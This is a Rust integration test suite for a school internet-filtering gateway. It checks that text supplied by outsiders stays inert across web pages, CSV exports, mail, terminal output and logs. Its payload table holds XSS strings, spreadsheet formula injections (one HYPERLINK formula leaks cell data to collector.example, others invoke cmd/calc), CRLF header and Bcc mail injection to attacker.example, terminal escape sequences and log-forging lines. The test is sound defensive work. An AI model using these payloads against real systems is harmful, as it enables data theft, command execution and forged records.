//! Whatever a stranger writes, in a name, an address or a reason, is text in every face: it is no
//! script in a page, no formula in a table, no command to a terminal, no line of its own in a log
//! or a mail.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use audit::{RowFormat, RowWriter, Search};
use schoolgate_tests::{
    Browser, Demo, Gateway, Installation, MailSink, Person, Said, Window, Wiring, connect_from,
    gateway_command, harm_of_csv, harm_of_mail, harm_of_terminal,
};
use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::{Duration, Instant};

/// What a stranger writes. In each stands `qz` and its place in this table, so that a face can be
/// seen to have shown it.
const PAYLOADS: [&str; 17] = [
    "<script>document.title='taken'</script>qz00",
    "\" onmouseover=\"document.title='taken'\" x=\"qz01",
    "' autofocus onfocus='document.title=1' qz02",
    "</textarea></title></q>--><img src=x onerror=document.title='taken'>qz03",
    "javascript:document.title='taken'//qz04",
    "<svg/onload=document.title='taken'><iframe srcdoc=x>qz05",
    "=HYPERLINK(\"http://collector.example/?\"&A1,\"qz06\")",
    "+1+1|' /C calc'!A0 qz07",
    "-2+3+cmd|' /C calc'!A0 qz08",
    "@SUM(1+1)*cmd|' /C calc'!A0 qz09",
    "\t=1+1 qz10",
    "\r=1+1 qz11",
    "\u{1b}[2J\u{1b}]0;taken\u{7}\u{9b}31m qz12",
    "a\r\nBcc: taken@attacker.example\r\nforged-line level=error\r\n\r\nforged-line qz13",
    "\u{202e}gpj.exe\u{200b}\u{2066}\u{e0041}\u{ad}\u{feff} qz14",
    "nul \0 and DEL \u{7f} and \u{85} and \u{2028} qz15",
    "\u{200b}\u{feff}=1+1 qz16",
];

/// The payloads that are the reasons of proposals, each of which takes a look at a week.
const PROPOSED: [usize; 8] = [0, 1, 3, 6, 12, 13, 14, 16];

/// What a line begins with that no part of the gateway wrote.
const FORGED: &str = "forged-line";
/// What has not come by then does not come.
const PATIENCE: Duration = Duration::from_secs(60);
const ZONE: &str = "hilltop.example";
const DNS_TYPE_A: [u8; 4] = [0, 1, 0, 1];

fn long() -> String {
    format!("qz17{}", "\u{e9}<".repeat(12_000))
}

fn payloads() -> Vec<String> {
    let mut all: Vec<String> = PAYLOADS.iter().map(|text| (*text).to_owned()).collect();
    all.push(long());
    all
}

/// The marks of the payloads that can be read in a text.
fn marks(text: &str) -> BTreeSet<String> {
    let found = text.match_indices("qz").filter_map(|(at, _)| {
        let mark = text.get(at..at + 4)?;
        mark[2..]
            .bytes()
            .all(|byte| byte.is_ascii_digit())
            .then(|| mark.to_owned())
    });
    found.collect()
}

fn encoded(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        let _ = write!(out, "%{byte:02x}");
        out
    })
}

/// Sends bytes as they are to a door from an address of this machine; gives back what came.
fn send(door: SocketAddr, from: IpAddr, bytes: &[u8]) -> String {
    let mut stream = connect_from(from, door);
    // The door may hang up before it has read all of it.
    let _ = stream.write_all(bytes);
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// Asks for a payload in every part of a request; the pages that came back.
fn requests(door: SocketAddr, from: IpAddr, payload: &str) -> Vec<String> {
    let cut: String = payload.chars().take(2_000).collect();
    let coded = encoded(&cut);
    let bare: String = cut.split(['\r', '\n', '\0']).collect();
    let spaceless: String = bare.split(' ').collect();
    let heads = [
        format!("GET http://chess.com/{coded}?q={coded} HTTP/1.1\r\nHost: chess.com\r\n"),
        format!("GET http://chess.com/{spaceless}?{spaceless} HTTP/1.1\r\nHost: chess.com\r\n"),
        format!("GET http://chess.com/ HTTP/1.1\r\nHost: chess.com\r\nUser-Agent: {bare}\r\n"),
        format!("GET http://chess.com/ HTTP/1.1\r\nHost: chess.com\r\nReferer: {cut}\r\n"),
        format!("GET http://{spaceless}.chess.com/ HTTP/1.1\r\nHost: {spaceless}.chess.com\r\n"),
        format!("CONNECT {spaceless}:443 HTTP/1.1\r\nHost: {spaceless}:443\r\n"),
        format!("{spaceless} http://chess.com/ HTTP/1.1\r\nHost: chess.com\r\n"),
    ];
    let heads = heads.iter().map(|head| {
        let whole = format!("{head}Accept: text/html\r\nConnection: close\r\n\r\n");
        send(door, from, whole.as_bytes())
    });
    heads.collect()
}

/// Asks DNS for a name that has the payload's bytes in a label.
fn ask_name(door: SocketAddr, from: IpAddr, payload: &str) {
    let socket = UdpSocket::bind((from, 0)).unwrap();
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    let label = &payload.as_bytes()[..payload.len().min(60)];
    for label in [label, b"chess", b"com"] {
        packet.push(u8::try_from(label.len()).unwrap());
        packet.extend_from_slice(label);
    }
    packet.push(0);
    packet.extend_from_slice(&DNS_TYPE_A);
    socket.send_to(&packet, door).unwrap();
    socket
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let mut answer = [0; 1500];
    let length = socket.recv(&mut answer).unwrap();
    assert!(length >= 12, "a name that is none is answered as well");
}

/// Tells the gateway who is at an address, as a feed on this machine does.
fn bind(state: &Path, address: IpAddr, user: &str) {
    // A longer name is refused.
    let user: String = user.chars().take(200).collect();
    let binding = serde_json::json!({
        "address": address, "user": user, "source": "command-line",
        "expires": "2099-01-01T00:00:00Z",
    });
    let began = Instant::now();
    let mut stream = loop {
        match UnixStream::connect(state.join("control.sock")) {
            Ok(stream) => break stream,
            // It opens once the gateway runs.
            Err(_) if began.elapsed() < PATIENCE => std::thread::yield_now(),
            Err(error) => panic!("the gateway hears no commands: {error}"),
        }
    };
    writeln!(
        stream,
        "{}",
        serde_json::json!({ "ask": "bind", "binding": binding })
    )
    .unwrap();
    let mut answer = String::new();
    BufReader::new(stream).read_line(&mut answer).unwrap();
    // A name with control characters does not even come in.
    let refused = user.contains(char::is_control) && answer.contains("control character");
    assert!(answer.contains("done") || refused, "{answer}");
}

/// Waits until a search of the decisions finds something.
fn wait_for_row(state: &str, host: &str) {
    let began = Instant::now();
    let words = ["audit", "search", "--state", state, "--host", host];
    while gateway_command(&words).code != Some(0) {
        assert!(began.elapsed() < PATIENCE, "no row of {host}");
    }
}

fn source(group: u8, place: usize) -> IpAddr {
    IpAddr::from([127, group, 0, u8::try_from(place).unwrap() + 20])
}

fn quiet(what: &str, said: &Said) {
    for text in [&said.out, &said.err] {
        let harm = harm_of_terminal(text, FORGED);
        assert!(harm.is_empty(), "{what}: {harm:#?}");
    }
}

struct Stage<'a> {
    demo: &'a Demo,
    browser: &'a Browser,
    mail: &'a MailSink,
    technician: Person,
    lead: Person,
    headteacher: Person,
}

impl<'a> Stage<'a> {
    fn sign_in(&self, person: &'a Person) -> Window<'a> {
        let window = self.browser.window(&person.name, 1280);
        window.goto(&self.demo.console("/sign-in"));
        window
            .fill("Name", &person.name)
            .fill("Password", &person.password)
            .fill("Code from your app", &self.demo.code(person));
        let at = window.press("Sign in");
        assert!(at.url.ends_with('/'), "{}: {}", person.name, window.text());
        window
    }

    fn face(&self, from: IpAddr, path: &str, form: Option<&str>) -> String {
        let head = match form {
            None => format!("GET {path} HTTP/1.1\r\nHost: why.{ZONE}\r\n\r\n"),
            Some(form) => format!(
                "POST {path} HTTP/1.1\r\nHost: why.{ZONE}\r\nOrigin: http://why.{ZONE}\r\n\
                 Content-Type: application/x-www-form-urlencoded\r\nConnection: close\r\n\
                 Content-Length: {}\r\n\r\n{form}",
                form.len()
            ),
        };
        let head = head.replacen("\r\n\r\n", "\r\nConnection: close\r\n\r\n", 1);
        send(self.demo.address("faces"), from, head.as_bytes())
    }

    /// Every way in, for every payload; the pages that pupils and staff saw of it.
    fn fill(&self, technician: &Window<'_>, lead: &Window<'_>) -> Vec<String> {
        let mut pages = Vec::new();
        for (place, payload) in payloads().iter().enumerate() {
            let (pupil, teacher) = (source(30, place), source(60, place));
            bind(&self.demo.path("state"), pupil, payload);
            pages.extend(requests(self.demo.address("proxy"), pupil, payload));
            ask_name(self.demo.address("dns"), pupil, payload);
            pages.push(self.face(pupil, "/", None));
            let coded = encoded(&payload.chars().take(500).collect::<String>());
            let asked = format!("reference={coded}&wanted={coded}&note={coded}");
            let site = format!("address=http%3A%2F%2Fsite-{place}.example%2F{coded}&{asked}");
            pages.push(self.face(teacher, "/ask", Some(&site)));
            pages.push(self.face(teacher, "/ask", Some(&format!("address={coded}&{asked}"))));
            let told = format!("note={coded}&address={coded}&time={coded}&reference={coded}");
            pages.push(self.face(pupil, "/tell", Some(&told)));
            pages.push(self.face(
                pupil,
                &format!("/tell?address={coded}&reference={coded}"),
                None,
            ));
            if PROPOSED.contains(&place) {
                let sites = format!("site-{place}.example");
                let fields = [
                    ("sites", sites.as_str()),
                    ("whom", "group:staff"),
                    ("until_date", "2026-11-24"),
                    ("until_time", "15:15"),
                    ("reason", payload),
                ];
                let proposed = technician.post(&self.demo.console("/propose"), &fields);
                assert_eq!(proposed.status, 303, "{}", proposed.body);
            }
            let fields = [
                ("kind", "staff-report"),
                ("words", payload),
                ("address", payload),
            ];
            let reported = lead.post(&self.demo.console("/incidents/new"), &fields);
            // The longest is more than a form may be.
            let known = matches!(reported.status, 303 | 413 | 422);
            assert!(known, "{}", reported.body);
            pages.push(reported.body);
        }
        pages
    }
}

// CHG-33, LOG-16, SEC-14, SEC-20, MON-02
#[test]
fn no_page_table_or_mail_is_made_of_what_a_stranger_wrote() {
    let mail = MailSink::start();
    let to = mail.address();
    let demo = Demo::start(|school| {
        let mail = format!(
            "[alert.mail]\nhost = \"127.0.0.1\"\nport = {}\ntls = \"none\"\n\
             from = \"gateway@{ZONE}\"\n",
            to.port()
        );
        school.append("config/schoolgate.toml", &mail);
    });
    let browser = Browser::start();
    let found = |name: &str, role: &str, shown: &str| {
        let address = format!("{name}@{ZONE}");
        Person::found(&demo, name, role, &["--mail", &address, "--shown", shown])
    };
    let stage = Stage {
        technician: found("technician", "technician", PAYLOADS[0]),
        lead: found("lead", "safeguarding-lead", PAYLOADS[6]),
        headteacher: {
            found("coordinator", "coordinator", PAYLOADS[3]);
            found("headteacher", "headteacher", "Headteacher")
        },
        demo: &demo,
        browser: &browser,
        mail: &mail,
    };
    let technician = stage.sign_in(&stage.technician);
    let lead = stage.sign_in(&stage.lead);
    let headteacher = stage.sign_in(&stage.headteacher);

    let pages = stage.fill(&technician, &lead);
    let seen = pages_are_text(&technician, &pages);
    assert!(seen.len() >= 14, "block and request pages showed {seen:?}");
    let state = demo.path("state");
    let state = state.to_str().unwrap();
    wait_for_row(state, "chess.com");

    console_is_text(&stage, &[technician, lead, headteacher]);
    mails_are_text(&stage);
    terminal_is_still(&stage, state);
    files_with_strange_names(&stage, &technician);
    let harm = harm_of_terminal(&demo.log(), FORGED);
    assert!(harm.is_empty(), "the log: {harm:#?}");
}

/// Reads pages as a browser does; nothing in them may act.
fn pages_are_text(window: &Window<'_>, pages: &[String]) -> BTreeSet<String> {
    let mut seen = BTreeSet::new();
    for page in pages {
        // Heads of answers are none of the page, and nobody may add to them.
        let (head, body) = page
            .split_once("\r\n\r\n")
            .filter(|(head, _)| head.starts_with("HTTP/1.1"))
            .unwrap_or(("", page));
        let lower = head.to_ascii_lowercase();
        assert!(!lower.contains("bcc:") && !lower.contains(FORGED), "{head}");
        let bad = body
            .chars()
            .find(|c| !"\n\r\t".contains(*c) && model::steers(*c));
        assert_eq!(bad, None, "{body}");
        let (acts, text) = window.read(body);
        assert!(acts.is_empty(), "{acts:#?}\n{body}");
        seen.extend(marks(&text));
    }
    seen
}

/// Every page of the console that shows words of others, for who may read it.
fn console_is_text(stage: &Stage<'_>, windows: &[Window<'_>; 3]) {
    let [technician, lead, headteacher] = windows;
    let console = |path: &str| stage.demo.console(path);
    let read = |window: &Window<'_>, path: &str| {
        let fetched = window.fetch(&console(path));
        assert_eq!(fetched.status, 200, "{path}: {}", fetched.body);
        assert!(
            fetched.headers["content-security-policy"]
                .as_str()
                .is_some_and(|policy| policy.contains("default-src 'none'")),
            "{path}"
        );
        pages_are_text(window, &[fetched.body])
    };
    let day = "from_date=2026-11-24";
    for window in windows {
        for path in ["/", "/requests", "/incidents", "/policy", "/help"] {
            read(window, path);
        }
    }
    assert!(read(technician, "/requests").len() >= 14);
    for path in [
        "/changes",
        "/changes?routine=1",
        "/accounts",
        "/settings",
        "/health",
        "/reviews",
    ] {
        read(headteacher, path);
    }
    assert!(read(headteacher, "/changes").len() >= 7);
    let all = read(headteacher, "/incidents");
    let links = lead.fetch(&console("/incidents")).body;
    let mut told = BTreeSet::new();
    for id in 1..=40 {
        if links.contains(&format!("/incidents/{id}\"")) {
            told.extend(read(lead, &format!("/incidents/{id}")));
            read(lead, &format!("/incidents/{id}/record"));
            let file = lead.fetch(&console(&format!("/incidents/{id}/file/report.txt")));
            let harm = harm_of_terminal(&file.body.replace('\r', ""), "no line is forged");
            assert!(harm.is_empty(), "{harm:#?}");
        }
    }
    assert!(told.len() >= 14, "incidents showed {told:?} and {all:?}");
    for payload in payloads() {
        let coded = encoded(&payload.chars().take(400).collect::<String>());
        let tried = technician.fetch(&console(&format!("/try?address={coded}&group=ks3")));
        pages_are_text(technician, &[tried.body]);
        let searched = format!("/activity?{day}&site={coded}&user={coded}&reference={coded}");
        pages_are_text(lead, &[lead.fetch(&console(&searched)).body]);
        pages_are_text(lead, &[lead.fetch(&console(&format!("/{coded}"))).body]);
    }
    for place in [1, 6, 7] {
        read(technician, &format!("/requests/C-{place:04}"));
    }
    tables_are_text(stage, windows);
}

/// What is handed out as files, with names where somebody gave a reason for them.
fn tables_are_text(stage: &Stage<'_>, windows: &[Window<'_>; 3]) {
    let [technician, lead, headteacher] = windows;
    let console = |path: &str| stage.demo.console(path);
    let fields = [
        ("from_date", "2026-11-24"),
        ("group", "ks3"),
        ("names", "1"),
        ("reason", "looking into incident 1"),
    ];
    let named = lead.post(&console("/activity/disclose"), &fields);
    assert_eq!(named.status, 303, "{}", named.body);
    let search = "from_date=2026-11-24&group=ks3&names=1";
    let page = lead.fetch(&console(&format!("/activity?{search}")));
    let seen = pages_are_text(lead, &[page.body]);
    let table = lead.fetch(&console(&format!("/activity/export/activity.csv?{search}")));
    let harm = harm_of_csv(&table.body);
    assert!(harm.is_empty(), "{harm:#?}");
    let in_table = marks(&table.body);
    assert!(
        in_table.len() >= 14,
        "the table shows {in_table:?}, the page {seen:?}"
    );
    let json = lead.fetch(&console(&format!(
        "/activity/export/activity.json?{search}"
    )));
    let rows: serde_json::Value = serde_json::from_str(&json.body).unwrap();
    assert!(!rows.as_array().unwrap().is_empty());
    assert!(harm_of_terminal(&json.body, FORGED).is_empty());
    let days = "from=2026-11-24&until=2026-11-24";
    for (window, path) in [
        (lead, "/reports/week.csv"),
        (headteacher, "/reports/governors.csv"),
    ] {
        let table = window.fetch(&console(&format!("{path}?{days}")));
        assert_eq!(table.status, 200, "{path}");
        let harm = harm_of_csv(&table.body);
        assert!(harm.is_empty(), "{path}: {harm:#?}");
        pages_are_text(
            window,
            &[window.fetch(&console(&format!("/reports?{days}"))).body],
        );
    }
    let mut api = Vec::new();
    for path in ["matters", "changes", "requests", "incidents", "activity"] {
        api.push(technician.fetch(&console(&format!("/api/v1/{path}"))).body);
    }
    for body in api {
        assert!(harm_of_terminal(&body, FORGED).is_empty(), "{body}");
    }
}

fn mails_are_text(stage: &Stage<'_>) {
    stage.mail.wait_for("qz00");
    let mut seen = BTreeSet::new();
    for letter in stage.mail.letters() {
        let (harm, body) = harm_of_mail(&letter.text, &letter.to, ZONE);
        assert!(harm.is_empty(), "{harm:#?}\n{}", letter.text);
        seen.extend(marks(&body));
    }
    assert!(seen.len() >= 3, "mails told of {seen:?}");
}

/// Every command that prints words of others.
fn terminal_is_still(stage: &Stage<'_>, state: &str) {
    let run = |words: &[&str]| {
        let said = gateway_command(words);
        quiet(&words.join(" "), &said);
        said
    };
    let with_state = |words: &[&str]| run(&[words, &["--state", state]].concat());
    for words in [
        &["audit", "list"][..],
        &["audit", "list", "--json"],
        &["audit", "tail", "-n", "50"],
        &["status"],
        &["status", "--json"],
        &["policy", "history"],
        &["policy", "show"],
    ] {
        assert_eq!(with_state(words).code, Some(0), "{words:?}");
    }
    let listed = with_state(&["audit", "list", "--json"]);
    assert!(marks(&listed.out).len() >= 14, "the log tells of all");
    for line in listed.out.lines() {
        serde_json::from_str::<serde_json::Value>(line).unwrap();
    }
    let searched = with_state(&["audit", "search", "--group", "ks3", "--limit", "1000"]);
    let as_json = with_state(&[
        "audit", "search", "--group", "ks3", "--limit", "1000", "--json",
    ]);
    assert_eq!(searched.out.lines().count(), as_json.out.lines().count());
    assert!(marks(&as_json.out).len() >= 14, "{}", as_json.out);
    let open = stage
        .technician
        .command(stage.demo, &["override", "list", "--all"]);
    quiet("override list", &open);
    assert_eq!(marks(&open.out).len(), PROPOSED.len(), "{}", open.out);
    let accounts = stage.headteacher.command(stage.demo, &["account", "list"]);
    quiet("account list", &accounts);
    assert!(marks(&accounts.out).contains("qz06"), "{}", accounts.out);
    let config = stage.demo.path("config");
    let config = config.to_str().unwrap();
    for payload in payloads() {
        // A word of a command line has no NUL.
        let word: String = payload.split('\0').collect();
        let url = format!("http://chess.com/{word}");
        let all = ["--config", config, "--client", "127.30.0.5"];
        for more in [&[][..], &["--json"]] {
            run(&[&["explain"], &all[..], more, &["--", &word, &url]].concat());
        }
        run(&["lists", "why", "--config", config, "--", &word]);
        run(&["audit", "search", "--state", state, "--host", &word]);
        run(&["policy", "show", "--state", state, "--", &word]);
    }
}

/// Files beside the policy whose names and contents are a stranger's.
fn files_with_strange_names(stage: &Stage<'_>, technician: &Window<'_>) {
    let strange = "<img src=x onerror=taken()>\u{1b}[2J\u{202e}\nforged-line qz20";
    let held = stage.demo.path("config");
    std::fs::write(held.join(format!("{strange}.txt")), PAYLOADS.join("\n")).unwrap();
    let broken = format!("\"{strange}\" = \"\u{9b}31m\"\n");
    let broken = broken.replace('\n', "\\n") + "\n";
    std::fs::write(held.join(format!("groups/{strange}.toml")), broken).unwrap();
    let config = held.to_str().unwrap();
    let checked = gateway_command(&["check", "--config", config]);
    quiet("check", &checked);
    assert!(marks(&checked.err).contains("qz20"), "{}", checked.err);
    quiet(
        "check --json",
        &gateway_command(&["check", "--config", config, "--json"]),
    );
    std::fs::remove_file(held.join(format!("groups/{strange}.toml"))).unwrap();
    let state = stage.demo.path("state");
    let state = state.to_str().unwrap();
    let diff = gateway_command(&["policy", "diff", "--config", config, "--state", state]);
    quiet("policy diff", &diff);
    let page = technician.fetch(&stage.demo.console("/settings"));
    pages_are_text(technician, &[page.body]);
}

// LOG-16, LOG-17
#[test]
fn the_daemons_log_and_the_journals_formats_keep_to_a_line_a_record() {
    for format in ["json", "plain"] {
        let installation = Installation::new(&Wiring::default());
        let settings = installation.text("config/schoolgate.toml");
        let level = format!("format = \"{format}\"\nlevel = \"debug\"");
        let settings = settings.replacen("format = \"json\"", &level, 1);
        // How to find its doors is told in JSON alone.
        if format == "plain" {
            let broken = format!("{settings}\n\"\\u001b[2J\\nforged-line\" = 1\n");
            installation.write("config/schoolgate.toml", &broken);
            let ended = Gateway::run_to_its_end(&installation);
            assert_ne!(ended.code, Some(0));
            quiet("a start that fails", &ended);
            continue;
        }
        installation.write("config/schoolgate.toml", &settings);
        let gateway = Gateway::start(&installation);
        for (place, payload) in payloads().iter().enumerate() {
            let pupil = source(30, place);
            bind(&installation.path("state"), pupil, payload);
            requests(gateway.proxy(), pupil, payload);
            ask_name(gateway.dns(), pupil, payload);
            send(gateway.management(), pupil, payload.as_bytes());
        }
        let strange = installation.path("config/groups/\u{1b}[2J\nforged-line \u{9b}1m.toml");
        std::fs::write(&strange, "\"a\\nforged-line\\u001b\" = 1\n").unwrap();
        gateway.wait_for(0, "the policy in force stays");
        let state = installation.path("state");
        wait_for_row(state.to_str().unwrap(), "chess.com");
        let log = gateway.log();
        let harm = harm_of_terminal(&log, FORGED);
        assert!(harm.is_empty(), "{harm:#?}");
        for line in log.lines().filter(|line| line.starts_with('{')) {
            serde_json::from_str::<serde_json::Value>(line).unwrap();
        }
        assert_eq!(gateway.stop(), Some(0));
        formats_of_the_journal(&state.join("journal"));
    }
}

/// The journal as other programs get it.
fn formats_of_the_journal(journal: &Path) {
    let rows = audit::search(journal, &Search::default()).unwrap();
    assert!(rows.len() >= 14, "{} rows", rows.len());
    for format in [RowFormat::Csv, RowFormat::JsonLines, RowFormat::Syslog] {
        let mut writer = RowWriter::new(Vec::new(), format, "gate\u{1b}\n.school.test");
        rows.iter().for_each(|row| writer.write(row).unwrap());
        let text = String::from_utf8(writer.finish().unwrap()).unwrap();
        assert!(marks(&text).len() >= 14, "{format:?}");
        let lines = text.replace("\r\n", "\n");
        let harm = harm_of_terminal(&lines, FORGED);
        assert!(harm.is_empty(), "{format:?}: {harm:#?}");
        let head = usize::from(format == RowFormat::Csv);
        assert_eq!(lines.lines().count(), rows.len() + head, "{format:?}");
        if format == RowFormat::Csv {
            assert!(harm_of_csv(&text).is_empty(), "{:#?}", harm_of_csv(&text));
        }
    }
}
